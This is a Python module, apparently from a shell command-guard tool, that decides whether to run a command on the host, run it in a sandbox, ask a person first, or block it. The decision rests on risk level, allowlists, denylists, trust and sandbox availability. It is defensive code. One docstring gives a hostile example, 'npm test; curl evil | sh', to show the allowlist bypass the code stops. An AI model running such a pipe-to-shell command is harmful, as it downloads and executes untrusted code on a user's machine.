"""assessment + config + trust + facts about this machine → Decision. Pure: one function, no I/O.

Order of precedence (SPEC §3): critical is blocked whatever else holds; then the allowlist, the denylist
and the trust store; a line that leaves the guard (an interactive shell without the hook) is asked about
with a human present and refused otherwise, whatever the guard level and sandbox mode; then approval
(guard level, only with a human present); then the sandbox mode.
"""

from __future__ import annotations

from dataclasses import dataclass
from fnmatch import fnmatchcase
from typing import Literal

from vgshell.config import Config
from vgshell.normalize import normalize
from vgshell.risk.model import Assessment, Level

Action = Literal["host", "sandbox", "ask", "block"]

APPROVAL_LEVELS: dict[str, frozenset[Level]] = {
    "off": frozenset(),
    "low": frozenset(),
    "medium": frozenset({Level.HIGH}),
    "high": frozenset({Level.MEDIUM, Level.HIGH}),
    "paranoid": frozenset({Level.LOW, Level.MEDIUM, Level.HIGH}),
}


@dataclass(frozen=True)
class Facts:
    """What the edge learned about this run: trust, a human at the terminal, runtimes that work here."""

    human_present: bool = False
    available_runtimes: tuple[str, ...] = ()
    in_ci: bool = False
    trusted_since: str | None = None  # "3 days ago" when the command is in the trust store
    guard_off: bool = False  # `vg off` in this shell: only critical is still blocked


@dataclass(frozen=True)
class Decision:
    """`action` now; `on_approve` is where an `ask` runs once approved; `why` is the one-line reason."""

    action: Action
    why: str
    runtime: str | None = None
    on_approve: Action | None = None
    fallback_note: str | None = None

    @property
    def where(self) -> str:
        """Where the command runs (or would, once approved): 'host', a runtime name, or 'none'."""
        target = self.on_approve if self.action == "ask" else self.action
        if target == "sandbox":
            return self.runtime or "none"
        return "host" if target == "host" else "none"


def decide(a: Assessment, cfg: Config, facts: Facts) -> Decision:
    top = a.top
    rule = f" ({top.cite})" if top else ""
    if a.risk is Level.CRITICAL:
        return Decision("block", f"critical: {top.reason if top else 'critical'}{rule}")
    pattern = _allowlisted(a, cfg.policies.allowlist)
    if pattern is not None:
        return Decision("host", f"allowlisted by {pattern!r}")
    risk, facts_why = _effective_risk(a, cfg)
    if facts.trusted_since is not None:
        return Decision("host", f"trusted (approved {facts.trusted_since})")
    if facts.guard_off:
        return Decision("host", "guard off in this shell")
    if a.leaves_guard:
        return _leaving_guard(_why(risk, a, facts_why), facts)
    mode = cfg.sandbox.mode if cfg.sandbox.enabled else "never"
    wants_sandbox = _wants_sandbox(mode, risk, a)
    runtime, note = pick_runtime(cfg, facts)
    why = _why(risk, a, facts_why)
    if risk in APPROVAL_LEVELS[cfg.guard_level.level] and not (risk is Level.LOW and a.state_change):
        return _approval(why, cfg.guard_level.level, wants_sandbox, runtime, note, facts, mode)
    if not wants_sandbox:
        return Decision("host", why)
    if runtime is None:
        return _no_runtime(why, note, facts)
    return Decision("sandbox", why, runtime, fallback_note=note)


def _effective_risk(a: Assessment, cfg: Config) -> tuple[Level, str | None]:
    pattern = _first_match(a.command, cfg.policies.denylist)
    if pattern is not None and a.risk < Level.HIGH:
        return Level.HIGH, f"denylisted by {pattern!r}"
    return a.risk, None


def _wants_sandbox(mode: str, risk: Level, a: Assessment) -> bool:
    if mode == "always":
        return not (a.state_change and risk is Level.LOW)
    if mode == "auto":
        return risk >= Level.MEDIUM or a.networked_install
    if mode == "risky":
        return risk >= Level.HIGH
    return False


def _approval(why: str, guard: str, wants_sandbox: bool, runtime: str | None, note: str | None,
              facts: Facts, mode: str) -> Decision:
    target: Action = "sandbox" if wants_sandbox and runtime is not None else "host"
    if facts.human_present:
        return Decision("ask", f"{why}; needs approval at guard level {guard}", runtime if target == "sandbox"
                        else None, on_approve=target, fallback_note=note)
    if runtime is not None and mode != "never":
        return Decision("sandbox", f"{why}; needs approval and no one is at the terminal", runtime,
                        fallback_note=note)
    return Decision("block", f"{why}; needs approval, no one is at the terminal and no sandbox is available")


def _leaving_guard(why: str, facts: Facts) -> Decision:
    """Nothing would judge what is typed in that shell: a person decides, and without one it does not run
    (a sandbox would not help: the shell would be interactive on this terminal)."""
    if facts.human_present:
        return Decision("ask", f"{why}; nothing would judge what is typed there", on_approve="host")
    return Decision("block", f"{why}; needs approval and no one is at the terminal")


def _no_runtime(why: str, note: str | None, facts: Facts) -> Decision:
    missing = note or "no sandbox runtime is available"
    if facts.human_present:
        return Decision("ask", f"{why}; {missing}", None, on_approve="host", fallback_note=note)
    return Decision("block", f"{why}; {missing}", fallback_note=note)


def pick_runtime(cfg: Config, facts: Facts) -> tuple[str | None, str | None]:
    """The runtime to use and, when it is not the configured one, a note saying why."""
    wanted = cfg.sandbox.runtime
    order = cfg.sandbox.runtime_candidates(facts.in_ci)
    available = [r for r in order if r in facts.available_runtimes and r != wanted]
    if wanted == "auto":
        return (available[0], None) if available else (None, "no sandbox runtime is available "
                                                       "(install bubblewrap, docker or podman)")
    if wanted in facts.available_runtimes:
        return wanted, None
    if available:
        return available[0], f"{wanted} is unavailable, using {available[0]}"
    return None, f"{wanted} is unavailable and no other sandbox runtime is"


def _why(risk: Level, a: Assessment, denied: str | None) -> str:
    top = a.top
    parts = [f"{risk} risk"]
    if a.networked_install:
        parts.append("networked install")
    if denied:
        parts.append(denied)
    head = " + ".join(parts)
    if top is None or (a.networked_install and top.rule.startswith("pkg.")):
        return head + (f" ({top.cite})" if top else "")
    return f"{head}: {top.reason} ({top.cite})"


def _allowlisted(a: Assessment, patterns: tuple[str, ...]) -> str | None:
    """The pattern allowing the line, if it matches the line and every command a finding names.

    `npm *` must not wave through `npm test; curl evil | sh`: the `sh` finding is not allowlisted.
    """
    pattern = _first_match(a.command, patterns)
    if pattern is None:
        return None
    if all(_first_match(f.match, patterns) is not None for f in a.findings if f.rule != "parse.error"):
        return pattern
    return None


def _first_match(command: str, patterns: tuple[str, ...]) -> str | None:
    text = normalize(command)
    return next((p for p in patterns if fnmatchcase(text, normalize(p))), None)
